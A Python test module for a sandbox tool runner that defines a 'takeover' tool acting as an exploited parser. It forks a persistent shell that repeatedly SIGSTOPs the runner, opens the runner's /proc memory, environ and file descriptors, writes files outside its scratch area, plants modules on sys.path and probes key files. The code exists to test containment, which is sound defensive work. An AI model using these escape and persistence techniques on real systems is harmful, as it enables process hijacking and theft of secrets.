"""A tool that tries to take over its runner, step by step (security tests only).

Loaded with TOOLPLANE_EXTRA_TOOLS=tests.takeover_tools. The tool ``takeover`` stands for
an exploited parser in a real tool. Its ``implant`` action does what took over every
later call of a worker before runners were swept and kept per tenant, and reports each
attempt in its (signed) result:

a. fork a child that calls setsid() (out of the call's process group) and outlives the
   call, as a shell whose command line carries a marker the test looks for on the host;
b. open the runner's request and reply channels, /proc/<runner>/fd/0 and /fd/1 (and its
   memory and environment);
c. SIGSTOP the runner: the surviving child keeps sending it after the call returns;
   the call itself tries once and reports the runner's state (and resumes it, so that
   its own result gets out where a SIGSTOP works);
d. leave files in its scratch directory and in the runner's scratch root;
e. write a module into every directory on sys.path (and the working and scratch
   directories) and check whether it could be imported from there.

``look`` reports what a later call sees of all that; ``echo`` answers with its argument.
Imported by a worker while TP_TEST_NO_NAMESPACES is set, this module makes the worker
act as if bubblewrap could make no namespaces here (as in a container), so its calls
run in runners without namespaces (the stack must allow weak containment).
"""

from __future__ import annotations

import errno
import os
import signal
import sys
import time
from pathlib import Path

from pydantic import BaseModel, ConfigDict

from sandbox_tasks.registry import Limits, ToolContext, ToolSpec

MODULE = "tp_implant_module"
LEFT = ("left-in-scratch", "left-in-root")


class TakeoverArgs(BaseModel):
    model_config = ConfigDict(strict=True, extra="forbid", frozen=True)
    action: str
    target: str = ""  # echo: what to answer; implant: the marker for the survivor


class TakeoverResult(BaseModel):
    model_config = ConfigDict(frozen=True)
    outcome: str
    detail: dict[str, object] = {}


def _err(e: OSError) -> str:
    return errno.errorcode.get(e.errno or 0, str(e))


def _try_open(path: str, flags: int) -> str:
    try:
        fd = os.open(path, flags)
    except OSError as e:
        return _err(e)
    os.close(fd)
    return "opened"


def _state(pid: int) -> str:
    try:
        return Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
    except OSError as e:
        return _err(e)


def _write(path: Path) -> str:
    try:
        path.write_text("left by an earlier call\n")
    except OSError as e:
        return _err(e)
    return "written"


def _survivor(runner: int, root: Path, marker: str) -> int:
    """(a) + (c): a child in a session of its own that outlives the call and, once the
    call has returned, keeps stopping the runner and leaving a file behind; its pid."""
    call = os.getpid()
    pid = os.fork()
    if pid == 0:  # pragma: no cover - the child
        try:
            os.setsid()
            script = (
                'while kill -0 "$4" 2>/dev/null; do sleep 0.02; done; sleep 0.5; '
                'while :; do kill -STOP "$1" 2>/dev/null; echo "$2" > "$3/implant-alive" '
                "2>/dev/null; sleep 0.05; done"
            )
            argv = ["sh", "-c", script, "sh", str(runner), marker, str(root), str(call)]
            os.execv("/bin/sh", argv)  # noqa: S606 - a fixed shell script
        finally:
            os._exit(0)
    return pid


def implant(args: TakeoverArgs, ctx: ToolContext) -> TakeoverResult:
    runner = os.getppid()
    root = ctx.scratch_dir.parent  # the runner's scratch root
    detail: dict[str, object] = {"runner": runner, "pid": os.getpid()}
    child = _survivor(runner, root, args.target or "no-marker")
    time.sleep(0.05)
    detail["survivor"] = {"pid": child, "session": _session(child), "own_session": os.getsid(0)}
    detail["channels"] = {
        "fd0": _try_open(f"/proc/{runner}/fd/0", os.O_WRONLY),
        "fd1": _try_open(f"/proc/{runner}/fd/1", os.O_RDONLY),
        "mem": _try_open(f"/proc/{runner}/mem", os.O_RDONLY),
        "environ": _try_open(f"/proc/{runner}/environ", os.O_RDONLY),
    }
    try:
        os.kill(runner, signal.SIGSTOP)
        sent = "sent"
    except OSError as e:
        sent = _err(e)
    time.sleep(0.05)
    detail["stop"] = {"sent": sent, "state": _state(runner)}
    if detail["stop"]["state"] == "T":  # type: ignore[index]
        os.kill(runner, signal.SIGCONT)  # so that this report gets out
    detail["files"] = {
        "scratch": _write(ctx.scratch_dir / LEFT[0]),
        "root": _write(root / LEFT[1]),
        "/": _write(Path("/") / LEFT[1]),
        "/dev/shm": _write(Path("/dev/shm") / LEFT[1]),
    }
    detail["sys_path"] = _plant(ctx)
    return TakeoverResult(outcome="implanted", detail=detail)


def _session(pid: int) -> int | str:
    try:
        return os.getsid(pid)
    except OSError as e:
        return _err(e)


def _plant(ctx: ToolContext) -> dict[str, object]:
    """(e): a module in each directory we can write; which of them is on sys.path. A module
    written into a directory on sys.path is removed at once (it would poison the host's
    Python where the test runs as root without namespaces); that it could be is reported."""
    import importlib.util

    planted, writable_on_path = [], []
    for entry in {*sys.path, os.getcwd(), str(ctx.scratch_dir), str(ctx.scratch_dir.parent)}:
        where = Path(entry or os.getcwd())
        module = where / f"{MODULE}.py"
        try:
            module.write_text("HIJACKED = True\n")
        except OSError:
            continue
        if entry in sys.path:
            writable_on_path.append(entry)
            module.unlink()
        else:
            planted.append(str(where))
    importlib.invalidate_caches()
    found = importlib.util.find_spec(MODULE)
    return {
        "path": list(sys.path),
        "planted": sorted(planted),
        "writable_on_path": sorted(writable_on_path),
        "importable": found is not None,
    }


def look(args: TakeoverArgs, ctx: ToolContext) -> TakeoverResult:
    root = ctx.scratch_dir.parent
    try:
        entries = sorted(os.listdir(root))
    except OSError as e:
        entries = [_err(e)]
    return TakeoverResult(
        outcome="looked",
        detail={
            "runner": os.getppid(),
            "runner_state": _state(os.getppid()),
            "root_entries": [e for e in entries if e != ctx.scratch_dir.name],
            "scratch_entries": sorted(os.listdir(ctx.scratch_dir)),
            "left": [n for n in (*LEFT, "implant-alive", f"{MODULE}.py") if (root / n).exists()],
        },
    )


def whoami(args: TakeoverArgs, ctx: ToolContext) -> TakeoverResult:
    """Where this call runs: its parent (the runner), the runner's parent (the worker), and
    what of theirs it can open; ``target``: a path to try to read (a key file). Under
    Landlock no ``/proc`` entry is readable: what could not be read is its errno."""
    runner = os.getppid()
    worker: int | str
    try:
        status = dict(
            line.split(":\t", 1) for line in Path(f"/proc/{runner}/status").read_text().splitlines()
        )
        worker = int(status["PPid"])
    except OSError as e:
        worker = _err(e)
    try:
        cmdline = Path(f"/proc/{runner}/cmdline").read_bytes().replace(b"\0", b" ").decode()
    except OSError as e:
        cmdline = _err(e)
    opened = {
        f"{who}/{what}": _try_open(f"/proc/{pid}/{what}", os.O_RDONLY)
        for who, pid in (("runner", runner), ("worker", worker))
        for what in ("environ", "mem", "fd/0")
    }
    return TakeoverResult(
        outcome="found",
        detail={
            "pid": os.getpid(),
            "runner": runner,
            "worker": worker,
            "runner_cmdline": cmdline,
            "env": sorted(os.environ),
            "opened": opened,
            "target": _try_open(args.target, os.O_RDONLY) if args.target else "",
        },
    )


def takeover(args: TakeoverArgs, ctx: ToolContext) -> TakeoverResult:
    actions = {"implant": implant, "look": look, "whoami": whoami}
    if args.action == "echo":
        return TakeoverResult(outcome="echo", detail={"target": args.target})
    if args.action not in actions:
        raise ValueError(f"unknown action {args.action!r}")
    return actions[args.action](args, ctx)


TOOLS = [
    ToolSpec(
        name="takeover",
        version="1.0.0",
        description="Tries to take over its sandbox runner (security tests only).",
        args_model=TakeoverArgs,
        result_model=TakeoverResult,
        func=takeover,
        limits=Limits(timeout_s=15, cpu_s=10),
    )
]


def _no_namespaces() -> None:
    main = sys.modules.get("sandbox_tasks.main")
    if main is None or not os.environ.get("TP_TEST_NO_NAMESPACES"):
        return  # not a worker process (the control, a runner), or not asked
    main.probe_bwrap = lambda binary: "disabled for the test (TP_TEST_NO_NAMESPACES)"


_no_namespaces()
